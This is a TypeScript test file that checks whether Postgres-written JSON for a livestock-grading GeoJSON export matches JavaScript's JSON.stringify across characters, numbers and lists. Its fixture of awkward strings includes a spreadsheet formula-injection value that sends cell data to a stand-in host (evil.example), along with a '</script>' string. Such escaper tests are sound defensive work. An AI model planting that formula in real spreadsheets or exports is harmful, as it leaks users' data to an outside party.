import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { createTestDatabase, type TestDatabase } from '@cti/db/testing';
import type { Fragment } from '../access/farm-access.ts';
import { geoJsonFeature, sqlGeoJsonFeature } from './export-columns.ts';
import { type ExportLine, type ExportRow, parseExportRow } from './export-query.ts';
import { sqlLinesOrRows, sqlNumberWritable } from './export-sql.ts';
import { sqlJsonBoolean, sqlJsonList, sqlJsonNumber, sqlJsonObject, sqlJsonString } from './geojson-sql.ts';
import { doubles } from './test-export-values.ts';

// The GeoJSON export's features are written by Postgres (geojson-sql.ts, sqlGeoJsonFeature): each must
// be byte for byte what JSON.stringify writes in Node from the row as postgres.js decodes it — string
// escapes, numbers as JavaScript prints them, null for missing — or come as the row, for Node.

let db: TestDatabase;
before(async () => {
  db = await createTestDatabase({ max: 2 });
});
after(() => db?.drop());

/** Every character Postgres's UTF-8 text can hold from U+0001 to U+FFFF, one per string, and astral ones. */
function everyCharacter(): string[] {
  const out: string[] = [];
  for (let c = 1; c <= 0xffff; c++) if (c < 0xd800 || c > 0xdfff) out.push(String.fromCharCode(c));
  for (let c = 0x10000; c <= 0x10ffff; c += 0x101) out.push(String.fromCodePoint(c));
  return [...out, String.fromCodePoint(0x10ffff)];
}

/** Text a person might type or paste, and text built to trip an escaper. */
const AWKWARD = [
  '',
  'plain',
  'Ferme Érable, "Nord"',
  '=HYPERLINK("http://evil.example/?d="&A1,"click")',
  'Barn 2\r\nwest side',
  'C:\\barn\\east',
  '\\',
  '"',
  '\\"',
  '\\u0000',
  '\\n literally',
  'a/b </script>',
  'line\u2028separator\u2029paragraph',
  '🐄 cow 🇨🇦 👩‍🌾 family 👨‍👩‍👧',
  '\uFEFFbom',
  '\u007F\u0080\u009F\u00A0',
  '\uFFFD\uFFFE\uFFFF',
  'Ünïcødé 牛 "7"',
  `${Array.from({ length: 31 }, (_, i) => String.fromCharCode(i + 1)).join('')}end`,
  "'quoted'",
  '{"type":"Feature"}',
  'x'.repeat(5000),
];

describe('geojson-sql: Postgres writes the JSON that JSON.stringify writes', () => {
  test('strings: every character, control characters, quotes, backslashes, U+2028/2029, emoji, null', async () => {
    const texts = [...everyCharacter(), ...AWKWARD];
    const sql = db.sql;
    const rows = await sql<{ t: string | null; json: string }[]>`
      SELECT t, ${sqlJsonString(sql, sql`t`)} AS json
        FROM unnest(${[...texts, null]}::text[]) WITH ORDINALITY AS v(t, i) ORDER BY i`;
    assert.equal(rows.length, texts.length + 1);
    assert.deepEqual(
      rows.map((r) => r.t),
      [...texts, null],
      'postgres.js gives back every text as it was sent',
    );
    const wrong = rows.filter((r) => r.json !== JSON.stringify(r.t));
    assert.deepEqual(
      wrong.slice(0, 5).map((r) => ({ text: r.t, sql: r.json, js: JSON.stringify(r.t) })),
      [],
    );
    assert.equal(rows.at(-1)!.json, 'null');
  });

  test('numbers: JSON.stringify(x) wherever sqlNumberWritable says so; -0 as 0, null when missing', async () => {
    const values = [...doubles(), 0.1 + 0.2, -(0.1 + 0.2), 1e-7, 1e21, -1e21, 123e-20];
    const sql = db.sql;
    // The value as postgres.js decodes it (what the Node writer stringifies) beside the JSON Postgres writes.
    const rows = await sql<{ x: number; writable: boolean; json: string | null }[]>`
      SELECT x, ${sqlNumberWritable(sql, sql`x`)} AS writable,
             CASE WHEN ${sqlNumberWritable(sql, sql`x`)} THEN ${sqlJsonNumber(sql, sql`x`)} END AS json
        FROM unnest(${values.map(String)}::float8[]) WITH ORDINALITY AS v(x, i) ORDER BY i`;
    assert.deepEqual(
      rows.map((r) => r.x),
      values,
      'postgres.js decodes each double exactly',
    );
    const wrong = rows.filter((r) => r.writable && r.json !== JSON.stringify(r.x));
    assert.deepEqual(
      wrong.slice(0, 5).map((r) => ({ value: r.x, sql: r.json, js: JSON.stringify(r.x) })),
      [],
    );
    assert.ok(rows.filter((r) => r.writable).length > 6000, 'most samples are in the range');
    const special = await sql<{ writable: boolean; json: string | null }[]>`
      SELECT ${sqlNumberWritable(sql, sql`x`)} AS writable, ${sqlJsonNumber(sql, sql`x`)} AS json
        FROM unnest(${['-0', '0', null, 'NaN', 'Infinity', '-Infinity']}::float8[]) WITH ORDINALITY AS v(x, i)
       ORDER BY i`;
    assert.deepEqual(
      special.map((r) => (r.writable ? r.json : 'not writable')),
      [JSON.stringify(-0), '0', 'null', 'not writable', 'not writable', 'not writable'],
    );
    const ints = await sql<{ n: number | null; json: string }[]>`
      SELECT n, ${sqlJsonNumber(sql, sql`n`)} AS json
        FROM unnest(ARRAY[0, 1, 5, -3, 32767, NULL]::smallint[]) WITH ORDINALITY AS v(n, i) ORDER BY i`;
    assert.deepEqual(
      ints.map((r) => r.json),
      ints.map((r) => JSON.stringify(r.n)),
    );
  });

  test('booleans, lists and objects', async () => {
    const sql = db.sql;
    const booleans = await sql<{ b: boolean | null; json: string }[]>`
      SELECT b, ${sqlJsonBoolean(sql, sql`b`)} AS json
        FROM unnest(ARRAY[true, false, NULL]::boolean[]) WITH ORDINALITY AS v(b, i) ORDER BY i`;
    assert.deepEqual(
      booleans.map((r) => r.json),
      ['true', 'false', 'null'],
    );
    const lists = [['too_dark', 'ribeye_cut_off'], [], ['NULL'], AWKWARD, ['\u2028', '"\\'], null];
    const listed = await sql<{ l: string[] | null; json: string }[]>`
      SELECT l, ${sqlJsonList(sql, sql`l`)} AS json
        FROM (SELECT i, CASE WHEN v::text = 'null' THEN NULL
                             ELSE ARRAY(SELECT e FROM json_array_elements_text(v) e) END AS l
                FROM json_array_elements(${JSON.stringify(lists)}::text::json) WITH ORDINALITY AS a(v, i)) x
       ORDER BY i`;
    assert.deepEqual(
      listed.map((r) => r.l),
      lists,
      'postgres.js gives back every list as it was sent',
    );
    assert.deepEqual(
      listed.map((r) => r.json),
      lists.map((l) => JSON.stringify(l)),
    );
    // A NULL item is JSON null, written by Postgres and by the row's JSON alike. postgres.js's array
    // parser decodes an unquoted NULL item as the text 'NULL', so the export written in Node from
    // postgres.js's rows wrote "NULL" there. No grading has such an item (the worker's reasons are
    // codes); the CSV has written it as an empty item since Postgres writes the CSV (csv-sql.ts).
    const [nulls] = await sql<{ l: unknown[]; json: string; row: string }[]>`
      SELECT l, ${sqlJsonList(sql, sql`l`)} AS json, row_to_json(x)::text AS row
        FROM (SELECT ARRAY['a', NULL, 'b'] AS l) x`;
    assert.equal(nulls!.json, '["a",null,"b"]');
    assert.equal(JSON.stringify(JSON.parse(nulls!.row).l), nulls!.json);
    assert.deepEqual(nulls!.l, ['a', 'NULL', 'b'], 'postgres.js decodes a NULL item as the text NULL');
    // Two dimensions: nested lists both ways. Bounds other than 1 (no writer makes them): array_to_json
    // drops them; postgres.js decodes `[2:3]={a,b}` as a list in a list.
    const shaped = await sql<{ l: unknown; json: string }[]>`
      SELECT l, ${sqlJsonList(sql, sql`l`)} AS json
        FROM (VALUES (1, '{{a,b},{"c,d",NULLS}}'::text[]), (2, '[2:3]={a,"b,c"}'::text[])) x(i, l) ORDER BY i`;
    assert.equal(shaped[0]!.json, '[["a","b"],["c,d","NULLS"]]');
    assert.equal(JSON.stringify(shaped[0]!.l), shaped[0]!.json);
    assert.equal(shaped[1]!.json, '["a","b,c"]');
    assert.equal(JSON.stringify(shaped[1]!.l), '[["a","b,c"]]');
    const [object] = await sql<{ json: string }[]>`
      SELECT ${sqlJsonObject(sql, [
        ['a', sqlJsonString(sql, sql`'x"y'`)],
        ['b "quoted" \\ key', sqlJsonNumber(sql, sql`1.5::float8`)],
        ['c', sqlJsonObject(sql, [])],
      ])} AS json`;
    assert.equal(object!.json, JSON.stringify({ a: 'x"y', 'b "quoted" \\ key': 1.5, c: {} }));
  });

  test('features: byte for byte JSON.stringify(geoJsonFeature(row)); rows with odd numbers come as the row', async () => {
    const rows = exportRows();
    const sql = db.sql;
    const statement = exportRowsStatement(sql, rows);
    // The reference: what the GeoJSON export wrote before, from the rows as postgres.js decodes them.
    const decoded = await sql<ExportRow[]>`${statement}`;
    assert.equal(decoded.length, rows.length);
    const expected = decoded.map((r) => JSON.stringify(geoJsonFeature(r)));
    const out = await sql<ExportLine[]>`${sqlLinesOrRows(sql, statement, { line: sqlGeoJsonFeature(sql) })}`;
    const written = out.map((r) =>
      r.line === null ? JSON.stringify(geoJsonFeature(parseExportRow(r.row))) : r.line,
    );
    // Each difference shown around its first differing character.
    const differ = written.flatMap((w, i) => {
      const js = expected[i]!;
      if (w === js) return [];
      let at = 0;
      while (w[at] === js[at]) at++;
      return [{ i, at, sql: w.slice(at - 60, at + 40), js: js.slice(at - 60, at + 40) }];
    });
    assert.deepEqual(differ.slice(0, 3), [], 'every feature the same, byte for byte');
    // Postgres wrote the features whose numbers it writes as JavaScript does, and only those went to Node.
    const odd = (x: number | null) => x !== null && x !== 0 && !(Math.abs(x) >= 1e-4 && Math.abs(x) < 1e15);
    const toNode = decoded.map((r) =>
      [r.latitude, r.longitude, r.rea_cm2, r.fat_thickness_mm, r.confidence, r.review_clarity].some(
        (x) => Number.isNaN(x) || odd(x),
      ),
    );
    assert.deepEqual(
      out.map((r) => r.line === null),
      toNode,
    );
    assert.ok(toNode.filter((x) => !x).length > 1500, 'most features are written by Postgres');
    assert.ok(toNode.filter((x) => x).length > 500, 'and many by Node');
    assert.ok(
      decoded.some((r) => Number.isNaN(r.rea_cm2) && written[decoded.indexOf(r)]!.includes('"rea_cm2":null')),
      'NaN is null, as JSON.stringify writes it',
    );
  });
});

/** A row per case: every awkward text, number and missing value in every kind of column, mixed. */
function exportRows(): Record<string, unknown>[] {
  const texts: (string | null)[] = [...AWKWARD, null, ...everyCharacter().filter((_, i) => i % 97 === 0)];
  const specials = ['-0', '0', 'NaN', 'Infinity', '-Infinity', null];
  const numbers: (string | null)[] = [
    ...specials,
    ...doubles()
      .filter((_, i) => i % 7 === 0)
      .map((x) => String(x)),
    String(0.1 + 0.2),
    '1e-7',
    '1e21',
  ];
  const uuid = (i: number) => `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`;
  const at = (list: readonly (string | null)[], i: number) => list[i % list.length] ?? null;
  return Array.from({ length: 3000 }, (_, i) => {
    // A number's column: mostly ordinary values, so that most rows are written by Postgres.
    const num = (k: number) =>
      i % 5 === k ? at(numbers, i * 3 + k) : at(['43.65', '-79.38', null, '0.8732'], i + k);
    return {
      i,
      id: uuid(i),
      scan_ref: at(texts, i),
      capture_id: at(texts, i + 1) ?? 'cap',
      captured_at: i % 4 === 0 ? null : new Date(Date.UTC(2025, 8, 9, 0, 0, i)).toISOString(),
      received_at: new Date(Date.UTC(2025, 8, 10, 0, 0, i, i % 1000)).toISOString(),
      status: at(['ingested', 'graded', 'error'], i),
      farm_id: i % 6 === 0 ? null : uuid(100000 + (i % 9)),
      farm_name: at(texts, i + 2),
      device_id: uuid(200000 + (i % 3)),
      device_code: at(texts, i + 3) ?? 'dev',
      device_label: at(texts, i + 4),
      animal_id: i % 3 === 0 ? null : uuid(300000 + i),
      animal_tag_id: at(texts, i + 5),
      animal_eid: at(texts, i + 6),
      animal_sex: at(['steer', 'heifer', null], i),
      animal_breed: at(texts, i + 7),
      animal_birth_date: i % 2 ? '2024-03-01' : null,
      latitude: i % 11 === 0 ? null : num(0),
      longitude: i % 13 === 0 ? null : num(1),
      grading_id: i % 8 === 0 ? null : uuid(400000 + i),
      grade: at(texts, i + 8),
      // Items never NULL: postgres.js would decode one as the text NULL ('booleans, lists and objects').
      grade_reasons:
        i % 9 === 0 ? null : [at(texts, i + 9) ?? 'x', at(texts, i + 10) ?? '', 'too_dark'].slice(0, i % 4),
      rea_cm2: i === 1 ? 'NaN' : num(2),
      fat_thickness_mm: num(3),
      confidence: num(4),
      model_name: at(texts, i + 11),
      model_version: at(texts, i + 12),
      graded_at: i % 8 === 0 ? null : '2025-09-09T14:18:32.000Z',
      manual: at(['true', 'false', null], i),
      review_label: at(texts, i + 13),
      review_clarity: at(['1', '5', null, '0'], i),
      review_usability: at(texts, i + 14),
    };
  });
}

/** `rows` as the export statement's columns and types (ExportRow), in their order. */
function exportRowsStatement(sql: TestDatabase['sql'], rows: Record<string, unknown>[]): Fragment {
  return sql`
    SELECT r.id, r.scan_ref, r.capture_id, r.captured_at, r.received_at, r.status, r.farm_id, r.farm_name,
           r.device_id, r.device_code, r.device_label, r.animal_id, r.animal_tag_id, r.animal_eid,
           r.animal_sex, r.animal_breed, r.animal_birth_date, r.latitude, r.longitude, r.grading_id, r.grade,
           r.grade_reasons, r.rea_cm2, r.fat_thickness_mm, r.confidence, r.model_name, r.model_version,
           r.graded_at, r.manual, r.review_label, r.review_clarity::int AS review_clarity, r.review_usability
      FROM json_to_recordset(${JSON.stringify(rows)}::text::json) AS r(
             i int, id uuid, scan_ref text, capture_id text, captured_at text, received_at text, status text,
             farm_id uuid, farm_name text, device_id uuid, device_code text, device_label text, animal_id uuid,
             animal_tag_id text, animal_eid text, animal_sex text, animal_breed text, animal_birth_date text,
             latitude float8, longitude float8, grading_id uuid, grade text, grade_reasons text[],
             rea_cm2 float8, fat_thickness_mm float8, confidence float8, model_name text, model_version text,
             graded_at text, manual boolean, review_label text, review_clarity smallint, review_usability text)
     ORDER BY r.i`;
}
